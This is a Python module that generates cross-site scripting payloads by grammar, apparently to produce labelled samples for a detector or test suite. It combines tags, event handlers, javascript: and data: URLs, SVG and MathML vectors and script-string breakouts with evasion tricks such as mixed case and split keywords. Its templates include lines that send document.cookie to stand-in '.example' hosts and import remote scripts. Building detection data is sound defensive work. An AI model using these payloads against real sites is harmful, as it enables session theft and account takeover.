"""Cross-site scripting by grammar: an element, a handler, what it runs, how it is obscured, and where it is put."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from .samples import Dice, Sample

_ELEMENTS = ("img", "svg", "body", "input", "video", "audio", "details", "marquee", "a", "div", "button", "form", "select", "textarea", "iframe", "object", "x", "custom-tag", "math", "table", "p", "style")  # fmt: skip
_EVENTS = ("load", "error", "click", "mouseover", "focus", "toggle", "start", "animationend", "pointerenter", "wheel", "begin", "beforeinput", "scrollend", "transitionrun", "hashchange", "message", "copy", "auxclick")  # fmt: skip
_ATTRIBUTES = ("src", "href", "id", "class", "style", "alt", "autofocus", "open", "width", "tabindex")


def code(dice: Dice) -> str:
    """A statement of JavaScript that an attacker would run first."""
    number, word = dice.number(99), dice.word()
    return dice.choice(
        (
            f"alert({number})",
            f"alert('{word}')",
            "alert(document.cookie)",
            f"confirm(/{word}/.source)",
            f"prompt`{number}`",
            f"eval(atob('{word}'))",
            f"fetch('//{word}.example/'+document.cookie)",
            f"window['al'+'ert']({number})",
            f"top.alert({number})",
            "(alert)(1)",
            f"setTimeout('alert({number})')",
            f"location='//{word}.example'",
            f"import('//{word}.example')",
            f"[].constructor.constructor('alert({number})')()",
            f"document.body.innerHTML='{word}'",
            f"new Image().src='//{word}.example/'+document.cookie",
        )
    )


def _gap(dice: Dice) -> str:
    return dice.choice((" ", " ", "/", "\t", "\n", "\x0c", "  ", "/ /"))


def _quoted(dice: Dice, value: str) -> str:
    if " " in value or dice.random() < 0.5:
        quote = '"' if "'" in value or dice.random() < 0.5 else "'"
        return quote + value + quote if quote not in value else value
    return value


def _handler(dice: Dice) -> str:
    event = dice.cased(f"on{dice.choice(_EVENTS)}")
    equals = dice.choice(("=", "=", "=", " =", "= "))
    return event + equals + _quoted(dice, code(dice))


def _tag_with_handler(dice: Dice) -> str:
    extra = dice.maybe(f"{_gap(dice)}{dice.choice(_ATTRIBUTES)}={_quoted(dice, dice.word())}")
    end = dice.choice((">", ">", "/>", " >", "//", ""))
    return f"<{dice.cased(dice.choice(_ELEMENTS))}{extra}{_gap(dice)}{_handler(dice)}{end}"


def _script(dice: Dice) -> str:
    name = dice.cased("script")
    inside = dice.maybe(f"{_gap(dice)}src=//{dice.word()}.example/x.js", 0.3)
    return f"<{name}{inside}>{code(dice)}</{name}{dice.maybe(' ', 0.2)}>"


def _address(dice: Dice) -> str:
    scheme = dice.cased("javascript")
    if dice.random() < 0.3:
        at = dice.randint(1, 9)
        scheme = scheme[:at] + dice.choice("\t\n\r") + scheme[at:]
    return f"{scheme}:{dice.maybe('//%0a', 0.1)}{code(dice)}"


def _tag_with_address(dice: Dice) -> str:
    element, attribute = dice.choice(
        (
            ("a", "href"),
            ("iframe", "src"),
            ("form", "action"),
            ("button", "formaction"),
            ("object", "data"),
            ("embed", "src"),
            ("math", "href"),
        )
    )
    return f'<{dice.cased(element)}{_gap(dice)}{attribute}="{_address(dice).replace(chr(34), chr(39))}">{dice.word()}'


def _document(dice: Dice) -> str:
    kind = dice.choice(("text/html", "image/svg+xml", "text/html;charset=utf-8"))
    return dice.choice((f"data:{kind},{_script(dice)}", f"data:{kind};base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="))


def _vector(dice: Dice) -> str:
    """SVG and MathML, in which attributes become scripts while they are shown."""
    return dice.choice(
        (
            f"<svg><script>{code(dice)}</script></svg>",
            f"<svg><animate{_gap(dice)}onbegin={_quoted(dice, code(dice))}{_gap(dice)}attributeName=x{_gap(dice)}dur=1s>",
            f"<svg><set{_gap(dice)}attributeName=href{_gap(dice)}to=javascript:{code(dice)}>",
            f"<math><mtext><a{_gap(dice)}xlink:href=javascript:{code(dice)}>{dice.word()}",
            f"<svg><foreignObject><iframe{_gap(dice)}src=javascript:{code(dice)}>",
            f"<svg><use{_gap(dice)}href='data:image/svg+xml,<svg/>#{dice.word()}'>",
        )
    )


def _attribute(dice: Dice) -> str:
    quote = dice.choice(("'", '"'))
    return f"{dice.maybe(dice.word())}{quote}{_gap(dice)}{dice.maybe('autofocus ')}{_handler(dice)}{dice.choice((' x=' + quote, '//', ' ', ''))}"


def _unquoted(dice: Dice) -> str:
    return f"{dice.word()}{dice.choice((' ', chr(9), chr(10)))}{_handler(dice)}"


def _string(dice: Dice) -> str:
    """Out of a string of a script, and back into one."""
    quote = dice.choice(("'", '"', "`"))
    operator = dice.choice(("-", "+", ";", "*", "^", ",", "|", "&&"))
    rest = dice.choice(("//", f"{operator}{quote}", f";{quote}", "/*", "<!--"))
    return f"{dice.maybe(dice.word())}{dice.maybe(chr(92), 0.2)}{quote}{dice.choice(('', ')', '}'))}{operator}{code(dice)}{rest}"


_CONTEXTS: dict[str, tuple[Callable[[Dice], str], ...]] = {
    "data": (_tag_with_handler, _script, _tag_with_address, _vector),
    "quoted attribute": (_attribute, lambda dice: dice.choice("'\"") + ">" + _tag_with_handler(dice)),
    "unquoted attribute": (_unquoted,),
    "URL": (_address, _document),
    "script": (_string, lambda dice: "</script>" + _script(dice)),
}


def scripts(dice: Dice, each: int) -> Iterator[Sample]:
    """``each`` of every form in every context."""
    for context, makers in _CONTEXTS.items():
        for make in makers:
            for _ in range(each):
                yield Sample(make(dice), "xss", context)
